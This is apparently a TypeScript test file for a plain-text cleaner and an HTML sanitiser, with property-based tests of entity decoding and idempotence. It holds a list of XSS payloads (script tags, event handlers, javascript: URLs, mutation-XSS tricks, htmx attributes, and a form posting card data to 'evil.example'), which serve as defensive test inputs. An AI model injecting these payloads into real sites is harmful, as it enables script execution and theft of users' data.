import { describe, expect, test } from "bun:test";
import fc from "fast-check";
import { sanitiseHtml } from "../html.ts";
import { asText, plainText } from "./text.ts";

const anyText = fc.string({ unit: "binary" });

describe("plain text", () => {
  test("is one storable line without controls or stray white space, whatever comes in", () => {
    fc.assert(
      fc.property(anyText, (text) => {
        const plain = plainText(text);
        expect(plain.isWellFormed()).toBe(true);
        expect(plain).not.toMatch(/\p{Cc}|\u2028|\u2029| {2}|^ | $/u);
      }),
    );
  });

  test("keeps text as it is when there is nothing to decode and nothing to clean", () => {
    fc.assert(
      fc.property(fc.string({ unit: "grapheme" }), (text) => {
        fc.pre(!/[&\p{Cc}\u2028\u2029]| {2}|^ | $/u.test(text));
        expect(plainText(text)).toBe(text);
      }),
    );
  });

  test("undoes escaping once, not twice", () => {
    fc.assert(
      fc.property(anyText, (text) => {
        const clean = plainText(text.replaceAll("&", "+"));
        expect(plainText(Bun.escapeHTML(clean))).toBe(clean);
      }),
    );
    expect(plainText("90&deg; &amp;lt;b&amp;gt; &#8482; &#x41;")).toBe("90° &lt;b&gt; ™ A");
  });

  test("leaves alone what only looks like an entity", () => {
    for (const text of ["AT&T", "R&D; more", "a&copy=1&b", "&nosuchentity;", "&;"]) expect(plainText(text)).toBe(text);
  });

  test("of HTML is its text, with words of neighbouring blocks apart", () => {
    expect(asText("<ul><li>One</li><li>Two &amp; <b>three</b></li></ul>", "html-text")).toBe("One Two & three");
    expect(asText("E8200 <br />(6M Cache)<script>alert(1)</script>", "html-text")).toBe("E8200 (6M Cache)");
    expect(asText("5 < 6 & 7 > 3", "html-text")).toBe("5 < 6 & 7 > 3");
  });
});

describe("a description", () => {
  test("made safe once is not changed by making it safe again", () => {
    fc.assert(
      fc.property(
        fc.oneof(anyText, fc.webUrl(), fc.string({ unit: fc.constantFrom("<", ">", "&", "b", "/", '"', " ") })),
        (text) => {
          const once = sanitiseHtml(text);
          expect(sanitiseHtml(once)).toBe(once);
        },
      ),
    );
  });

  const attacks = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<p onclick='alert(1)'>hi</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<div hx-get='/cart' hx-trigger='load'>x</div>",
    "<b data-hx-post='/x'>y</b><style>*{display:none}</style>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form action='//evil.example'><input name=card></form>",
  ];
  test.each(attacks)("is harmless: %s", (attack) => {
    const safe = sanitiseHtml(attack);
    expect(safe).not.toMatch(/<(script|img|svg|iframe|style|a|form|input|math|noscript)\b/i);
    expect(safe).not.toMatch(/<[^>]*\b(on\w+|style|hx-|data-|src|href|title)/i);
  });

  test("keeps its paragraphs, lists and tables", () => {
    const html =
      '<p>Soft <b>and</b> warm</p><ul><li>Wool</li></ul><table><tr><td colspan="2">1 &lt; 2</td></tr></table>';
    expect(sanitiseHtml(html)).toBe(html);
  });
});
